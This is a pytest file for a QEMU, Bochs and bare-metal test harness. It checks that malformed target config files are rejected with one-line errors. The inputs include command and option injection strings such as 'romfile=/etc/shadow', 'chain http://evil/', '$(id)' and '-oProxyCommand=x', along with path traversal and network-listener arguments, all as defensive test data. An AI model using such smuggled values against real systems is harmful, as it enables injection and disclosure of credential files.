"""Malformed target files, generated from the schemas: every field of every kind and driver gets
wrong types, out-of-range numbers and injection characters; hand-written files add broken
encodings, nesting, keys and values meant for another language.

Each must give one ConfigError line at load time that names the file and the key; a pytest run
naming such a file must stop with a usage error and no traceback.
"""

from __future__ import annotations

import copy
import math
import subprocess
import sys
from pathlib import Path
from typing import Any, Iterator

import pytest
import yaml

from harness.errors import ConfigError
from harness.targets import config, kinds
from harness.targets.baremetal import boot, console, lease, power
from harness.targets.config import Field

ROOT = Path(__file__).resolve().parents[2]

# One valid file per kind and driver; the generated cases break one field of one of them.
SSH = {"host": "runner.lab", "user": "vtx"}
BASES: dict[str, dict[str, Any]] = {
    "qemu": {"name": "q", "kind": "qemu", "qemu": {"iommu": {}, "devices": [{"driver": "edu"}]}},
    "bochs": {"name": "b", "kind": "bochs", "bochs": {"cpu_model": "bx_generic"}},
    "remote-qemu": {"name": "r", "kind": "remote-qemu", "remote_qemu": {"ssh": dict(SSH)}},
}
DRIVER_BASES = {
    ("power", "command"): {"driver": "command", "on": ["true"], "off": ["true"]},
    ("power", "ipmitool"): {"driver": "ipmitool", "bmc": "bmc.lab", "user": "u"},
    ("power", "manual"): {"driver": "manual"},
    ("console", "tcp"): {"driver": "tcp", "host": "ts.lab", "port": 7001},
    ("console", "serial"): {"driver": "serial", "device": "/dev/ttyS0"},
    ("console", "command"): {"driver": "command", "argv": ["console", "-s", "lab1"]},
    ("console", "ipmi-sol"): {"driver": "ipmi-sol", "bmc": "bmc.lab", "user": "u"},
    ("boot", "kexec"): {"method": "kexec"},
    ("boot", "pxe"): {"method": "pxe", "directory": "/srv/tftp/lab1"},
    ("boot", "grub"): {"method": "grub"},
    ("lease", "file"): {"backend": "file", "directory": "/var/lock/vtx"},
}
SCHEMAS = {"power": power.DRIVERS, "console": console.DRIVERS, "boot": boot.METHODS, "lease": lease.BACKENDS}


def baremetal(**parts: dict) -> dict[str, Any]:
    section = {"host": "lab1", "power": DRIVER_BASES["power", "manual"], "console": DRIVER_BASES["console", "tcp"],
               "boot": DRIVER_BASES["boot", "kexec"], "ssh": dict(SSH)}
    section.update(parts)
    return {"name": "lab", "kind": "baremetal", "baremetal": copy.deepcopy(section)}


def bad_values(f: Field) -> Iterator[tuple[str, Any]]:
    """Values no field of this shape may accept, each with a label for the test id."""
    types = f.types if isinstance(f.types, tuple) else (f.types,)
    if float in types or int in types:
        yield "inf", math.inf
        yield "nan", math.nan
        yield "1e26", 10**26
        yield "text", "12"
        if f.choices is None and (f.low is None or f.low >= 0):
            yield "negative", -1
    if str in types:
        if not f.multiline:
            yield "newline", "x\ny"
        yield "nul", "a\x00b"
        yield "list", ["x"]
        yield "bidi", "a\u202eb"
    if bool in types and str not in types:
        yield "yes", "yes"
    if dict in types:
        yield "scalar", "x"
    if list in types:
        yield "mapping", {"a": 1}


def schema_cases() -> Iterator[tuple[str, dict, str]]:
    """(case id, file content, the key path the error must name) for every field of every schema."""
    def walk(base: dict, target: dict, schema: dict[str, Field], path: str) -> Iterator[tuple[str, dict, str]]:
        for key, f in schema.items():
            for label, value in bad_values(f):
                broken = copy.deepcopy(base)
                node = _locate(broken, path)
                node[key] = value
                yield f"{path}{key}={label}", broken, f"{path}{key}"
            nested = target.get(key)
            if f.schema and isinstance(nested, dict):
                yield from walk(base, nested, f.schema, f"{path}{key}.")
            if f.items is not None and f.items.schema and isinstance(nested, list) and nested:
                yield from walk(base, nested[0], f.items.schema, f"{path}{key}[0].")

    registry = kinds()
    for kind, base in BASES.items():
        section = registry[kind].SECTION
        yield from walk(base, base, config.COMMON_SCHEMA, "")
        yield from walk(base, base[section], registry[kind].SCHEMA, f"{section}.")
    for (part, name), driver in DRIVER_BASES.items():
        base = baremetal(**{part: driver})
        if part == "boot" and name == "pxe":
            base["baremetal"].pop("ssh")
        schema = {k: v for k, v in SCHEMAS[part][name].SCHEMA.items() if k != "backend"}
        yield from walk(base, driver, schema, f"baremetal.{part}.")


def _locate(data: dict, path: str) -> dict:
    node: Any = data
    for part in [p for p in path.rstrip(".").split(".") if p]:
        name, _, index = part.partition("[")
        node = node[name] if not index else node[name][int(index.rstrip("]"))]
    return node


# Hand-written cases: (id, file text or bytes, what the message must contain).
HANDWRITTEN: list[tuple[str, str | bytes, str]] = [
    ("non-utf8", b"name: q\xff\nkind: qemu\nqemu: {}\n", "offset 7: not UTF-8 text (byte 0xff)"),
    ("latin1-bom", "\ufeffname: q\nkind: qemu\nqemu: {}\n".encode("utf-16"), "not UTF-8 text"),
    ("deep-nesting", "name: q\nkind: qemu\nqemu: {extra_args: " + "[" * 5000 + "]" * 5000 + "}\n",
     "line 3: nested more than 32 levels deep"),
    ("deep-mapping", "name: q\nkind: qemu\nqemu:\n" + "".join("  " * i + f"k{i}:\n" for i in range(1, 60)),
     "nested more than 32 levels deep"),
    ("control-char", "name: q\x07\nkind: qemu\nqemu: {}\n", "not valid YAML (unacceptable character"),
    ("duplicate-key", "name: q\nkind: qemu\ntimeout_s: 5\ntimeout_s: 500\nqemu: {}\n",
     "line 4: not valid YAML (duplicate key 'timeout_s')"),
    ("int-key", "name: q\nkind: qemu\nqemu: {1: x}\n", "qemu: expected string keys, got the key 1"),
    ("null-key", "name: q\nkind: qemu\nqemu: {null: x}\n", "qemu: expected string keys, got the key None"),
    ("list-key", "name: q\nkind: qemu\nqemu: {? [a, b] : x}\n", "not valid YAML"),
    ("bool-key-1.1", "name: q\nkind: qemu\nqemu: {yes: 1}\n", "qemu.yes: unknown key"),
    ("sexagesimal", "name: q\nkind: qemu\ntimeout_s: 1:30\nqemu: {}\n", "timeout_s: expected a number, got '1:30'"),
    ("octal-1.1", "name: q\nkind: qemu\nqemu: {memory_mb: 0o17}\n", "qemu.memory_mb: expected a number in [32, 65536], got 15"),
    ("empty-file", "", "(top level): expected a mapping"),
    ("huge-string", "name: q\nkind: qemu\ndescription: " + "x" * 5000 + "\nqemu: {}\n",
     "description: expected at most 4096 characters, got 5000"),
    ("huge-list", "name: q\nkind: qemu\nqemu: {trace: [" + ", ".join(["a"] * 300) + "]}\n",
     "qemu.trace: expected at most 256 entries, got 300"),
    ("name-is-path", "name: /tmp/x\nkind: qemu\nqemu: {}\n", "name: expected a plain file name"),
    ("name-climbs", "name: ../../x\nkind: qemu\nqemu: {}\n", "name: expected a plain file name"),
    ("name-hidden", "name: .x\nkind: qemu\nqemu: {}\n", "name: expected a plain file name"),
    ("name-option", "name: -x\nkind: qemu\nqemu: {}\n", "name: expected a plain file name"),
    ("kind-list", "name: q\nkind: [qemu]\nqemu: {}\n", "kind: expected one of"),
    ("timeout-zero", "name: q\nkind: qemu\ntimeout_s: 0\nqemu: {}\n",
     "timeout_s: expected a number of seconds in (0, 86400], got 0"),
    ("timeout-day+1", "name: q\nkind: qemu\ntimeout_s: 86401\nqemu: {}\n", "timeout_s: expected a number of seconds"),
    ("deny-injection", "name: q\nkind: qemu\ncapabilities: {deny: [\"vmx\\nept\"]}\nqemu: {}\n",
     "capabilities.deny[0]: expected text without control characters"),
    ("deny-upper", "name: q\nkind: qemu\ncapabilities: {deny: [VMX]}\nqemu: {}\n",
     "capabilities.deny[0]: expected a capability name"),
    # QEMU option strings
    ("machine-props", "name: q\nkind: qemu\nqemu: {machine: 'q35,accel=kvm'}\n", "qemu.machine: expected a QEMU name"),
    ("cpu-injection", "name: q\nkind: qemu\nqemu: {cpu: 'host,+vmx,romfile=/etc/shadow'}\n", "qemu.cpu: expected a CPU model"),
    ("driver-props", "name: q\nkind: qemu\nqemu: {devices: [{driver: 'edu,romfile=/etc/shadow'}]}\n",
     "qemu.devices[0].driver: expected a QEMU name"),
    ("option-key", "name: q\nkind: qemu\nqemu: {devices: [{driver: edu, options: {'x,romfile': 1}}]}\n",
     "qemu.devices[0].options: key: expected a QEMU name"),
    ("option-float", "name: q\nkind: qemu\nqemu: {devices: [{driver: edu, options: {x: 1.5}}]}\n",
     "qemu.devices[0].options.x: expected a string or an integer or true or false, got 1.5"),
    ("device-id", "name: q\nkind: qemu\nqemu: {devices: [{driver: edu, id: '1x'}]}\n", "qemu.devices[0].id: expected a QEMU id"),
    ("iommu-option-key", "name: q\nkind: qemu\nqemu: {iommu: {options: {'aw-bits=48,x': 1}}}\n",
     "qemu.iommu.options: key: expected a QEMU name"),
    ("icount-inject", "name: q\nkind: qemu\nqemu: {icount: 'shift=1,,x=y'}\n", "qemu.icount: expected 'key=value' pairs"),
    ("trace-inject", "name: q\nkind: qemu\nqemu: {trace: ['vtd_*,file=/etc/x']}\n", "qemu.trace[0]: expected a trace event"),
    ("binary-option", "name: q\nkind: qemu\nqemu: {binary: '-evil'}\n", "qemu.binary: expected a program name"),
    ("gdb", "name: q\nkind: qemu\nqemu: {extra_args: ['-gdb', 'tcp::1234']}\n",
     "qemu.extra_args: -gdb (opens a port or server) would open a network listener; set "
     "qemu.allow_network_listeners: true to allow it"),
    ("monitor-tcp", "name: q\nkind: qemu\nqemu: {extra_args: ['-monitor', 'tcp:0.0.0.0:4444,server=on']}\n",
     "qemu.extra_args: -monitor tcp:0.0.0.0:4444,server=on (a network character device)"),
    ("hostfwd", "name: q\nkind: qemu\nqemu: {extra_args: ['-nic', 'user,hostfwd=tcp::2222-:22']}\n",
     "would open a network listener"),
    ("remote-vnc", "name: r\nkind: remote-qemu\nremote_qemu: {ssh: {host: h, user: u}, extra_args: ['-vnc', ':0']}\n",
     "remote_qemu.extra_args: -vnc (opens a port or server)"),
    ("qemu-log-file", "name: q\nkind: qemu\nqemu: {extra_args: ['-D', '/etc/cron.d/x']}\n",
     "qemu.extra_args: -D (writes or loads host files) reaches outside the run's directory; set "
     "qemu.allow_host_files: true to allow it"),
    ("qemu-writable-drive", "name: q\nkind: qemu\nqemu: {extra_args: ['-drive', 'file=/dev/sda,if=ide']}\n",
     "(a writable disk image; add readonly=on or snapshot=on) reaches outside"),
    ("qemu-daemonize", "name: q\nkind: qemu\nqemu: {extra_args: ['-daemonize']}\n", "leave the harness' control"),
    ("bochs-log-file", "name: b\nkind: bochs\nbochs: {cpu_model: bx_generic, extra_rc: ['log: /etc/cron.d/x']}\n",
     "bochs.extra_rc: 'log: /etc/cron.d/x' (a log file) reaches outside the run's directory; set "
     "bochs.allow_host_files: true to allow it"),
    ("icount-kvm", "name: q\nkind: qemu\nqemu: {accel: kvm, icount: 'shift=0'}\n", "qemu.icount: needs accel tcg"),
    ("iommu-pc", "name: q\nkind: qemu\nqemu: {machine: pc, iommu: {}}\n", "qemu.machine: intel-iommu needs q35, got 'pc'"),
    ("remote-tmp-option", "name: r\nkind: remote-qemu\nremote_qemu: {ssh: {host: h, user: u}, remote_tmp: '-u'}\n",
     "remote_qemu.remote_tmp: expected an absolute path"),
    ("ssh-host-option", "name: r\nkind: remote-qemu\nremote_qemu: {ssh: {host: '-oProxyCommand=x', user: u}}\n",
     "remote_qemu.ssh.host: expected a host name"),
    ("password-env-name", "name: r\nkind: remote-qemu\nremote_qemu: {ssh: {host: h, user: u, password_env: 'A B'}}\n",
     "remote_qemu.ssh.password_env: expected the name of an environment variable"),
    ("ssh-port-0", "name: r\nkind: remote-qemu\nremote_qemu: {ssh: {host: h, user: u, port: 0}}\n",
     "remote_qemu.ssh.port: expected a number in [1, 65535], got 0"),
    # bochsrc
    ("cpu-options-newline", "name: b\nkind: bochs\nbochs: {cpu_model: bx_generic, cpu_options: "
     "{reset_on_triple_fault: \"0\\nromimage: file=/etc/shadow\"}}\n", "bochs.cpu_options.reset_on_triple_fault: expected text"),
    ("cpu-options-key", "name: b\nkind: bochs\nbochs: {cpu_model: bx_generic, cpu_options: {'a, model': 1}}\n",
     "bochs.cpu_options: key: expected a bochsrc option name"),
    ("cpu-options-dollar", "name: b\nkind: bochs\nbochs: {cpu_model: bx_generic, cpu_options: {x: '$HOME'}}\n",
     "bochs.cpu_options.x: expected a value without '$'"),
    ("cpu-model-comma", "name: b\nkind: bochs\nbochs: {cpu_model: 'bx_generic, ips=1'}\n", "bochs.cpu_model: expected a bochsrc option name"),
    ("bios-quote", "name: b\nkind: bochs\nbochs: {cpu_model: bx_generic, bios: '/x\"y'}\n", "bochs.bios: expected a value without a double quote"),
    ("extra-rc-include", "name: b\nkind: bochs\nbochs: {cpu_model: bx_generic, extra_rc: ['#include /etc/x']}\n",
     "bochs.extra_rc[0]: expected a bochsrc line, not an #include"),
    ("extra-rc-rfb", "name: b\nkind: bochs\nbochs: {cpu_model: bx_generic, extra_rc: ['display_library: rfb']}\n",
     "bochs.extra_rc: 'display_library: rfb' (a VNC display server) would open a network listener"),
    ("extra-rc-socket-com", "name: b\nkind: bochs\nbochs: {cpu_model: bx_generic, extra_rc: "
     "['com2: enabled=1, mode=socket-server, dev=0.0.0.0:4444']}\n", "(a serial port server) would open a network listener"),
    ("extra-rc-gdbstub", "name: b\nkind: bochs\nbochs: {cpu_model: bx_generic, extra_rc: ['gdbstub: enabled=1']}\n",
     "(the GDB stub) would open a network listener"),
    ("ips-low", "name: b\nkind: bochs\nbochs: {cpu_model: bx_generic, ips: 10}\n", "bochs.ips: expected a number in [1000000, 4294967295], got 10"),
    ("megs-huge", "name: b\nkind: bochs\nbochs: {cpu_model: bx_generic, memory_mb: 100000000000000000000000000}\n",
     "bochs.memory_mb: expected a number in [32, 2048]"),
]


def _lab(**parts) -> str:
    return yaml.safe_dump(baremetal(**parts))


HANDWRITTEN += [
    ("host-climbs", _lab().replace("host: lab1", "host: ../../x"), "baremetal.host: expected a plain file name"),
    ("pxe-image-absolute", _lab(boot={"method": "pxe", "directory": "/srv/t", "image_name": "/etc/passwd"}),
     "baremetal.boot.image_name: expected a plain file name"),
    ("pxe-script-climbs", _lab(boot={"method": "pxe", "directory": "/srv/t", "script_name": "../x"}),
     "baremetal.boot.script_name: expected a plain file name"),
    ("pxe-same-names", _lab(boot={"method": "pxe", "directory": "/srv/t", "image_name": "a", "script_name": "a"}),
     "baremetal.boot.image_name: must differ from script_name"),
    ("pxe-chain", _lab(boot={"method": "pxe", "directory": "/srv/t", "command_line": "x\nchain http://evil/"}),
     "baremetal.boot.command_line: expected text without control characters"),
    ("pxe-settings", _lab(boot={"method": "pxe", "directory": "/srv/t", "command_line": "x ${net0/ip} || shell"}),
     "baremetal.boot.command_line: expected an iPXE word"),
    ("pxe-url", _lab(boot={"method": "pxe", "directory": "/srv/t", "url_prefix": "http://x/ y"}),
     "baremetal.boot.url_prefix: expected an iPXE word"),
    ("grub-open-quote", _lab(boot={"method": "grub", "command_line": "a 'b"}),
     "baremetal.boot.command_line: expected a command line with balanced quotes"),
    ("grub-relative", _lab(boot={"method": "grub", "custom_cfg": "boot/grub/custom.cfg"}),
     "baremetal.boot.custom_cfg: expected an absolute path"),
    ("grub-climbs", _lab(boot={"method": "grub", "image_path": "/boot/../etc/shadow"}),
     "baremetal.boot.image_path: expected an absolute path"),
    ("grub-reboot-empty", _lab(boot={"method": "grub", "grub_reboot": " "}), "baremetal.boot.grub_reboot: expected a command"),
    ("kexec-needs-ssh", yaml.safe_dump({**baremetal(), "baremetal": {**baremetal()["baremetal"], "ssh": None}}),
     "baremetal.ssh: missing (boot method kexec needs it)"),
    ("power-empty-argv", _lab(power={"driver": "command", "on": [], "off": ["true"]}),
     "baremetal.power.on: expected a program and its arguments, got an empty list"),
    ("console-empty-argv", _lab(console={"driver": "command", "argv": []}), "baremetal.console.argv: expected a program"),
    ("power-unknown", _lab(power={"driver": "pdu"}), "baremetal.power.driver: expected one of command, ipmitool, manual"),
    ("boot-method-list", _lab(boot={"method": ["pxe"]}), "baremetal.boot.method: expected one of grub, kexec, pxe, got ['pxe']"),
    ("lease-backend", _lab(lease={"backend": "redis"}), "baremetal.lease.backend: expected one of file"),
    ("lease-timeout-inf", _lab(lease={"timeout_s": math.inf}), "baremetal.lease.timeout_s: expected a number of seconds"),
    ("ipmi-password-env", _lab(power={"driver": "ipmitool", "bmc": "b", "user": "u", "password_env": "$(id)"}),
     "baremetal.power.password_env: expected the name of an environment variable"),
    ("serial-relative", _lab(console={"driver": "serial", "device": "ttyS0"}), "baremetal.console.device: expected an absolute path"),
]


def _write(tmp_path: Path, content: str | bytes | dict) -> Path:
    path = tmp_path / "target.yaml"
    if isinstance(content, dict):
        content = yaml.safe_dump(content, allow_unicode=False)
    if isinstance(content, str):
        content = content.encode()
    path.write_bytes(content)
    return path


GENERATED = list(schema_cases())


def test_there_are_enough_cases_and_every_field_is_covered():
    assert len(GENERATED) + len(HANDWRITTEN) >= 50
    covered = {key for _, _, key in GENERATED}
    for kind, base in BASES.items():
        cls = kinds()[kind]
        assert {f"{cls.SECTION}.{k}" for k in cls.SCHEMA} <= covered
    assert {f"baremetal.boot.{k}" for k in boot.PxeBoot.SCHEMA} <= covered


@pytest.mark.parametrize("content, key", [(c, k) for _, c, k in GENERATED], ids=[i for i, _, _ in GENERATED])
def test_generated_malformed_file_is_one_line_naming_file_and_key(tmp_path, content, key):
    path = _write(tmp_path, content)
    with pytest.raises(ConfigError) as e:
        config.load(path)
    message = str(e.value)
    assert message.startswith(f"{path}: {key}") and "\n" not in message, message


@pytest.mark.parametrize("content, expected", [(c, m) for _, c, m in HANDWRITTEN], ids=[i for i, _, _ in HANDWRITTEN])
def test_handwritten_malformed_file_is_one_line_naming_file_and_problem(tmp_path, content, expected):
    path = _write(tmp_path, content)
    with pytest.raises(ConfigError) as e:
        config.load(path)
    message = str(e.value)
    assert message.startswith(f"{path}: ") and expected in message and "\n" not in message, message
    assert len(message) < 400


@pytest.mark.parametrize("content", [c for _, c, _ in GENERATED[:: max(1, len(GENERATED) // 40)]])
def test_the_valid_base_differs_from_each_case_only_in_the_broken_key(tmp_path, content):
    """Guards the generator: the bases themselves load (so each failure comes from its mutation)."""
    for base in [*BASES.values(), *(baremetal(**{p: d}) for (p, _), d in DRIVER_BASES.items() if p != "boot"),
                 baremetal(boot=DRIVER_BASES["boot", "pxe"]), baremetal(boot=DRIVER_BASES["boot", "grub"])]:
        config.load(_write(tmp_path, base))


def test_yaml_1_2_scalars_dates_and_leading_zeros_are_not_reinterpreted(tmp_path):
    c = config.load(_write(tmp_path, "name: q\nkind: qemu\ndescription: 2024-01-01\nqemu: {memory_mb: 0064}\n"))
    assert c.description == "2024-01-01" and c.section["memory_mb"] == 64       # YAML 1.1: a date, and 52
    with pytest.raises(ConfigError, match=r"qemu.devices\[0\].addr: expected a string, got 4$"):
        config.load(_write(tmp_path, "name: q\nkind: qemu\nqemu: {devices: [{driver: edu, addr: 0x4}]}\n"))


def test_yaml_1_2_keys_on_and_off_stay_strings(tmp_path):
    text = ("name: lab\nkind: baremetal\nbaremetal:\n  host: lab1\n  power:\n    driver: command\n"
            "    on: [poweron]\n    off: [poweroff]\n  console: {driver: tcp, host: ts, port: 7001}\n"
            "  boot: {method: pxe, directory: /srv/t}\n")
    c = config.load(_write(tmp_path, text))
    assert c.section["power"]["on"] == ["poweron"] and c.section["power"]["off"] == ["poweroff"]


@pytest.mark.parametrize("content, expected", [
    ("name: q\nkind: qemu\ntimeout_s: .inf\nqemu: {}\n", "timeout_s: expected a number of seconds in (0, 86400], got inf"),
    ("name: q\nkind: qemu\nqemu: {machine: 'q35,accel=kvm'}\n", "qemu.machine: expected a QEMU name"),
    (_lab(boot={"method": "pxe", "directory": "/srv/t", "image_name": "/etc/passwd"}),
     "baremetal.boot.image_name: expected a plain file name"),
])
def test_pytest_naming_a_malformed_file_stops_with_a_usage_error(tmp_path, content, expected):
    path = _write(tmp_path, content)
    (tmp_path / "test_x.py").write_text("def test_x():\n    pass\n")
    r = subprocess.run([sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-q", "--vtx-target", str(path),
                        "test_x.py"], cwd=tmp_path, capture_output=True, text=True, timeout=300)
    assert r.returncode == 4, r.stdout + r.stderr                   # pytest's usage error
    lines = [ln for ln in (r.stdout + r.stderr).splitlines() if ln.strip()]
    assert lines == [f"ERROR: {path}: {expected}" + lines[0].split(expected, 1)[1]], lines
    assert "Traceback" not in r.stdout + r.stderr
